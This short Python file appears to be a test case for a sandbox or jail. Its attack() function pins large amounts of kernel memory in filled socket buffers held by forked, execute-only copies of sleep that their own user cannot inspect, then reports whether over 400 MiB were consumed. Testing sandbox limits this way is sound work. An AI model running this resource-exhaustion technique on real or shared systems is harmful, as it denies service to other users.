"""Leaves full sockets with programs that may not be read: their own user may not look into them.

Form: jail
Alive: exhausts
Says: MiB of memory
"""

import os
import socket
import time

HOME, PROCESSES, PAIRS = os.environ.get("HOME", "/tmp"), 30, 100


def attack():
    program = f"{HOME}/left-by-an-attack"
    with open("/usr/bin/sleep", "rb") as original:
        copy = os.open(program, os.O_CREAT | os.O_WRONLY, 0o111)
        os.write(copy, original.read())
        os.close(copy)
    total = 0
    for _ in range(PROCESSES):
        held = [end for _ in range(PAIRS) for end in socket.socketpair()]
        total += sum(map(fill, held))
        if not os.fork():
            os.execv(program, ["sleep", "20"])
        time.sleep(0.1)
        for end in held:
            end.close()
    time.sleep(6)
    return total > 400 << 20


def fill(end):
    end.setblocking(False)
    end.set_inheritable(True)
    sent = 0
    try:
        while True:
            sent += end.send(bytes(65_536))
    except BlockingIOError:
        return sent
